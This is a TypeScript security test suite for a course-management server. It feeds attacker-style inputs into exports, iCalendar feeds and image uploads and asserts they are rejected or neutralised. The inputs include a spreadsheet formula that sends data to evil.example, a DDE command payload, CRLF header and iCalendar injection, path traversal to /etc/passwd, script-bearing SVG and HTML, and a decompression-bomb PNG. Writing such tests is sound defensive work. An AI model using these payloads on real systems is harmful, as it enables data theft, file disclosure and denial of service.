import zlib from 'node:zlib';
import ICAL from 'ical.js';
import JSZip from 'jszip';
import type { TestServer } from '../../support/test-server';
import { send } from '../limits/http';
import { gql, openAttackWorld, sessionIn, type AttackWorld } from './attack-support';
import { download, enrol, newCourse, readWorkbook } from './exports-support';

// An attacker's text in the files the server writes: a course's title, city, session
// descriptions and a member's names carrying CRLF, formula starts, quotes and control characters,
// read back from the iCalendar feeds, the xlsx and the headers; and the poster field given paths,
// other courses' files and images that lie about their size.

let w: AttackWorld;
let t: TestServer;
beforeAll(async () => {
  w = await openAttackWorld();
  t = w.t;
});
afterAll(() => t.close());

const CRLF_TITLE =
  'Curso\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:falso\r\nSUMMARY:Inyectado\r\nDTSTART:20300101T000000Z';

/** A course made through the API by the demo dojo's administrator, then validated by the national one. */
async function createdAndValidated(fields: Record<string, unknown>): Promise<number> {
  const answer = await t.rest('POST', '/cursos/ins', {
    token: w.tokens.dojo,
    body: {
      titulo: 'Curso atacante',
      ciudad: 'Teruel',
      obs: 'Detalles',
      actClau: false,
      aSesion: [{ fecha: sessionIn(w.today, 15).date, descripcion: 'Sesión', tipo: 'S' }],
      ...fields,
    },
  });
  expect(answer.body.estado).toBe(0);
  const id = answer.body.res.idCurso as number;
  const toggle = await t.rest('POST', '/cursos/cursoToggleVal', {
    token: w.tokens.admin,
    body: { idCurso: id },
  });
  expect(toggle.body.estado).toBe(0);
  return id;
}

describe('iCalendar injection', () => {
  it('a title, city and description with CRLF and property text stay inside their own values', async () => {
    const id = await createdAndValidated({
      titulo: CRLF_TITLE.slice(0, 100),
      ciudad: 'Teruel\nLOCATION:Falsa',
      obs: 'Línea\rDESCRIPTION:otra\u0001\u001b',
      aSesion: [{ fecha: sessionIn(w.today, 15).date, descripcion: 'A\r\nATTACH:http://x', tipo: 'S' }],
    });
    const text = await (await fetch(`${t.url}/cursos/public.ics`)).text();
    // eslint-disable-next-line no-control-regex -- the control characters sent must not come back
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n\u0001\u001b]/);
    const events = new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent');
    const ours = events.filter((e) => String(e.getFirstPropertyValue('uid')).startsWith(`curso-${id}-`));
    expect(ours).toHaveLength(1);
    expect(events.some((e) => e.getFirstPropertyValue('uid') === 'falso')).toBe(false);
    const [event] = ours;
    expect(String(event.getFirstPropertyValue('summary'))).toContain('SUMMARY:Inyectado');
    expect(event.getAllProperties('location')).toHaveLength(1);
    expect(event.getAllProperties('attach')).toHaveLength(0);
    expect(event.getAllProperties('description')).toHaveLength(1);
  });
});

describe('the exports', () => {
  let course: number;
  let member: { id: number };
  beforeAll(async () => {
    course = await createdAndValidated({
      titulo: '=HYPERLINK("http://evil.example/?"&A2,"Pulsa")',
      ciudad: 'Ma"d\\r/id\r\nSet-Cookie: robado=1; x',
      aSesion: [
        { fecha: sessionIn(w.today, 15).date, descripcion: '@SUM(1+1)*cmd|" /C calc"!A0', tipo: 'S' },
      ],
    });
    const [session] = await t.sql('select id_ses from curso_sesion where cf_curso = $1', [course]);
    const [row] = await t.sql(
      `insert into asociado (dni, nombre, apellido, mail, num_acae, fecha_nacimiento, cf_dojo, cf_asoc)
       values ('ATK1', $1, $2, 'atacante@prueba.federa', null, '1980-01-01', 1, 1) returning id_aso`,
      ['\t=1+1', '-2+3\u0001\u0008\u000b\u001f'],
    );
    member = { id: row.id_aso };
    await t.sql(`update dojo set nombre = '+SUM(1)' where id_dojo = 1`);
    await enrol(t, course, member.id, { entries: [{ sessionId: session.id_ses }] });
  });
  afterAll(() => t.sql(`update dojo set nombre = 'Dojo Demo' where id_dojo = 1`));

  it.each(['descargar_alumnosExcel', 'descargar_alumnosExcelComp', 'descargar_plantilla_Excel'])(
    '%s writes no formula, no control character, and every formula-looking text as text',
    async (call) => {
      const response = await download(t, call, w.tokens.dojo, { curso: String(course) });
      expect(response.status).toBe(200);
      const bytes = Buffer.from(await response.clone().arrayBuffer());
      const zip = await JSZip.loadAsync(bytes);
      for (const name of Object.keys(zip.files).filter((n) => n.endsWith('.xml'))) {
        const xml = await zip.files[name].async('string');
        expect({ name, formula: /<f[ >]/.test(xml) }).toEqual({ name, formula: false });
        // XML 1.0 allows no control character but tab, LF and CR: Excel calls such a file corrupt.
        // eslint-disable-next-line no-control-regex
        expect({ name, control: /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.test(xml) }).toEqual({
          name,
          control: false,
        });
      }
      const sheet = await readWorkbook(response);
      const risky: string[] = [];
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula).toBeFalsy();
          if (typeof cell.value === 'string' && /^[=+\-@\t\r]/.test(cell.value)) {
            risky.push(cell.value);
            expect(cell.numFmt).toBe('@');
          }
        }),
      );
      expect(risky.length).toBeGreaterThanOrEqual(3);
    },
  );

  it('puts no header of the attacker in the answer: the city is only a file name', async () => {
    for (const call of ['descargar_alumnosExcel', 'descargar_plantilla']) {
      const response = await download(t, call, w.tokens.dojo, { curso: String(course) });
      expect(response.status).toBe(200);
      expect(response.headers.get('set-cookie')).toBeNull();
      const disposition = response.headers.get('content-disposition')!;
      expect(disposition).toMatch(
        /^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9%._~!-]+$/,
      );
      const ascii = /filename="([^"]*)"/.exec(disposition)![1];
      expect(ascii).not.toMatch(/["\\/]/);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      await response.arrayBuffer();
    }
  });
});

/** A PNG whose header claims `width`×`height` pixels, with a tiny (and wrong) body. */
function pngClaiming(width: number, height: number): string {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (buf: Buffer) => {
    let c = 0xffffffff;
    for (const b of buf) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const out = Buffer.alloc(8 + data.length + 4);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc(body), 8 + data.length);
    return out;
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  const png = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    // A zlib stream of zeros that inflates far beyond its size: the decompression bomb's body.
    chunk('IDAT', zlib.deflateSync(Buffer.alloc(4_000_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
  return `data:image/png;base64,${png.toString('base64')}`;
}

// One was a hole: a PNG whose header reads well over a body that does not decode (cut short, or a
// bomb's zeros) passed readImage's checks and failed in toPng's re-encoding with sharp's own error:
// HTTP 500, for posters, logos and avatars alike. Closed in ImageUpload.receive (image-upload.ts):
// a failed re-encoding is the image refused as invalid.
describe('the poster', () => {
  let mine: number;
  let theirs: number;
  let theirPoster: string;
  beforeAll(async () => {
    mine = (await newCourse(t, { validated: false, sessions: [sessionIn(w.today, 9)] })).id;
    theirs = (
      await newCourse(t, { validated: false, dojoId: w.sameAsocDojo, sessions: [sessionIn(w.today, 9)] })
    ).id;
    const tiny = `data:image/png;base64,${(
      await (await fetch(`${t.url}/curso/template-cursos.png`)).arrayBuffer().then((b) => Buffer.from(b))
    ).toString('base64')}`;
    const answer = await t.rest('POST', '/cursos/mod', {
      token: w.neighbour.token,
      body: { id: theirs, modificar: ['imagen'], imagen: tiny },
    });
    expect(answer.body.estado).toBe(0);
    [{ imagen: theirPoster }] = await t.sql('select imagen from curso where id_curso = $1', [theirs]);
  });

  const setPoster = (imagen: string) =>
    t.rest('POST', '/cursos/mod', {
      token: w.tokens.dojo,
      body: { id: mine, modificar: ['imagen'], imagen },
    });

  it.each([
    ['a path out of the folder', '../../../../etc/passwd'],
    ['an absolute path', '/etc/passwd'],
    ['the folder itself', '.'],
    ["another course's poster", () => theirPoster],
    [
      'an SVG',
      `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>').toString('base64')}`,
    ],
    [
      'HTML called a PNG',
      `data:image/png;base64,${Buffer.from('<html><script>alert(1)</script></html>').toString('base64')}`,
    ],
    ['a PNG claiming 60000×60000 pixels', () => pngClaiming(60000, 60000)],
    ['a PNG claiming 4000×4000 pixels with a bomb of a body', () => pngClaiming(4000, 4000)],
  ])('refuses %s and leaves the course and the files as they were', async (_name, value) => {
    const answer = await setPoster(typeof value === 'function' ? value() : value);
    expect(answer.body).toMatchObject({ estado: 1, res: { codigo: 'BAD_USER_INPUT' } });
    const [row] = await t.sql('select imagen from curso where id_curso = $1', [mine]);
    expect(row.imagen).toBeNull();
    // Deleting my course must never take their file with it.
    await t
      .rest('POST', '/cursos/delCurso', { token: w.tokens.dojo, body: { idCurso: mine } })
      .then(async (d) => {
        expect(d.body.estado).toBe(0);
        mine = (await newCourse(t, { validated: false, sessions: [sessionIn(w.today, 9)] })).id;
      });
    const served = await fetch(`${t.url}/curso/${theirPoster}`);
    expect(served.status).toBe(200);
    await served.arrayBuffer();
  });

  it.each(['/curso/..%2f..%2fpackage.json', '/curso/%2e%2e/%2e%2e/package.json', '/curso/.%2e/config.ts'])(
    '%s never serves a file of the server',
    async (path) => {
      // Over a plain socket, so that the dots reach the server as sent. The router reads encoded
      // dots as a step out of /curso, so some of these land on the web client's page (when it is
      // built) rather than on the posters' 404: either way, never the file asked for.
      const response = await send(t.url, { method: 'GET', path });
      const text = typeof response.body === 'string' ? response.body : JSON.stringify(response.body);
      if (response.status !== 404) {
        expect(response.status).toBe(200);
        expect(text.startsWith('<!doctype html>')).toBe(true);
      }
      expect(text).not.toContain('"name"');
      expect(text).not.toContain('loadConfig');
    },
  );

  it('is served as a PNG the browser may not sniff', async () => {
    const response = await fetch(`${t.url}/curso/${theirPoster}`);
    expect(response.headers.get('content-type')).toBe('image/png');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    await response.arrayBuffer();
  });

  it('GraphQL takes the same refusals', async () => {
    const answer = await gql(
      t,
      w.tokens.dojo,
      'mutation($id:Int!,$i:CourseInput!){ updateCourse(id:$id,input:$i){ image } }',
      {
        id: mine,
        i: { image: theirPoster },
      },
    );
    expect(answer.errors?.[0].extensions?.code).toBe('BAD_USER_INPUT');
  });
});

describe('the calendar secret', () => {
  // Was a weakness: a feed URL's member and version were looked up in the database before its mac
  // was checked, so every forged URL, from anyone, cost a query, and its answer time told whether
  // the version it claimed was the member's current one. Closed in CalendarService.memberFeed: the
  // mac first. Proved with the feed versions' table locked: a forged URL answers at once all the same.
  it('a forged secret is refused without the database', async () => {
    const feed = await t.rest('GET', '/cursos/calendario', { token: w.plain.token });
    const url = new URL(feed.body.res.url as string, t.url);
    const mac = /-([A-Za-z0-9_-]{43})\.ics$/.exec(url.pathname)![1];
    const forged = new URL(url);
    forged.pathname = url.pathname.replace(
      mac,
      `${mac.slice(0, 10)}${mac[10] === 'A' ? 'B' : 'A'}${mac.slice(11)}`,
    );
    await t.sql('begin');
    try {
      await t.sql('lock table calendario_asociado in access exclusive mode');
      const answer = await fetch(forged, { signal: AbortSignal.timeout(3000) });
      expect(answer.status).toBe(404);
      await answer.text();
    } finally {
      await t.sql('rollback');
    }
    const real = await fetch(url);
    expect(real.status).toBe(200);
    await real.text();
  });
});
